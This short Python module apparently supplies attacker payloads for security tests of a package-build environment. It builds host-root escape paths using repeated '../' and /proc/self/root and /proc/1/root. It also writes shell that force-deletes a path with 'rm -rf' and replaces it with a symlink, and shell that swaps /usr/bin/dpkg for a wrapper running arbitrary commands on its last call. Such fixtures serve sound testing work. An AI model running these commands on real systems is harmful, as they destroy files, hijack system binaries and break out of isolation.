"""What attackers write: shell that plants links, scripts that act last of all, Python."""

from pathlib import Path

UP = "../" * 40
"""More than any tree is deep: from a relative link the host's root."""
PYTHON = "#!/usr/bin/python3 -I"
"""The first line of a script in Python."""


def ways(target: Path | str) -> dict[str, str]:
    """Return texts of links that lead to a path of the host, if they are followed out there."""
    path = str(target)
    return {
        "absolute": path,
        "relative": UP + path.lstrip("/"),
        "own process": f"/proc/self/root{path}",
        "first process": f"/proc/1/root{path}",
        "working directory": f"/proc/self/cwd/{UP}{path.lstrip('/')}",
    }


def plant(place: str, target: Path | str) -> str:
    """Return shell that puts a link in the place of whatever is there."""
    return f"rm -rf '{place}'; mkdir -p \"$(dirname '{place}')\"; ln -s '{target}' '{place}'"


def last_of_all(acts: str) -> str:
    """Return shell after which the last call of dpkg runs `acts`: it needs none of its files any more."""
    return f"""
cp -p /usr/bin/dpkg /usr/bin/dpkg.real
cat >/usr/bin/dpkg.new <<'END'
#!/bin/sh
case "$*" in *--triggers-only*) ;; *) exec /usr/bin/dpkg.real "$@" ;; esac
/usr/bin/dpkg.real "$@"
mv /usr/bin/dpkg.real /usr/bin/dpkg
{acts}
exit 0
END
chmod 755 /usr/bin/dpkg.new
mv /usr/bin/dpkg.new /usr/bin/dpkg
"""


JAVA = "mkdir -p /usr/bin /etc/ssl/certs/java; : >/usr/bin/java"
"""What has the keystore written."""
